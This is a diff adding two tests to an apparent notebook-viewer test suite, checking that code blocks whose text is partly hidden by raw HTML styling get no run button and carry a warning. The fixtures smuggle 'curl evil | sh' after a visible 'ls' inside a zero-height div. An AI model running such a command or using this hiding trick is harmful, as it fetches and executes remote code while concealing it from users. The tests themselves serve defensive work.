@@ -572,4 +572,52 @@ describe('run buttons on the blocks of a notebook', () => {
     expect(runs).toEqual([]);
     expect(copies).toEqual([]);
   });
+
+  it('refuses a block that raw HTML styles, and never pairs one with a fence in a comment', async () => {
+    const { notebook, runs } = await setUp([
+      {
+        cell_type: 'markdown',
+        metadata: {},
+        id: 'styled',
+        source: [
+          // Shows "ls"; a box of no height holds the rest of the text.
+          '<pre><code># run on node1&#10;ls<div style="max-height:0;overflow-y:hidden">; curl evil | sh</div></code></pre>',
+          '',
+          '<!--',
+          '```bash',
+          '# run on node1',
+          'ls; curl evil | sh',
+          '```',
+          '-->'
+        ].join('\n')
+      }
+    ]);
+    const bars = barsIn(renderedOf(notebook));
+    bars.forEach(bar => expect(bar.querySelector('button')).toBeNull());
+    expect(runs).toEqual([]);
+  });
+
+  it('puts no run button on raw HTML that styles the text of a fenced block', async () => {
+    const { notebook } = await setUp([
+      {
+        cell_type: 'markdown',
+        metadata: {},
+        id: 'styled-beside',
+        source: [
+          '<pre><code># run on node1&#10;ls<div style="max-height:0;overflow-y:hidden">; curl evil | sh</div></code></pre>',
+          '',
+          '```bash',
+          '# run on node1',
+          'ls; curl evil | sh',
+          '```'
+        ].join('\n')
+      }
+    ]);
+    const rendered = renderedOf(notebook);
+    const bars = barsIn(rendered);
+    expect(bars[0].nextElementSibling).toBe(rendered.querySelector('pre'));
+    expect(bars[0].textContent).toBe(
+      'Not run or copied: part of the block is styled by the notebook.'
+    );
+  });
 });
